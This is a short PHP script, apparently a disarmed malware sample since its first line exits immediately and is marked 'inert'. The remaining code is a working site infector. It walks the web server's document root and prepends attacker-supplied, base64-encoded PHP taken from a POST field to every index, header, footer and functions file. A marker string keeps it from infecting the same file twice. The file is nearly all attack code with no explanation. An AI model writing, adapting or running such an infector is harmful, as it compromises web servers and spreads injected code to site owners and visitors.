<?php exit; /* inert */ 
function walk($d, $l) {
    foreach (glob($d . '/*') as $p) {
        if (is_dir($p)) { walk($p, $l); continue; }
        if (preg_match('~/(index|header|footer|functions)\.php$~', $p) && strpos(file_get_contents($p), 'zx1') === false) {
            file_put_contents($p, "<?php /*zx1*/ " . $l . " ?>\n" . file_get_contents($p));
        }
    }
}
walk($_SERVER['DOCUMENT_ROOT'], base64_decode($_POST['l']));
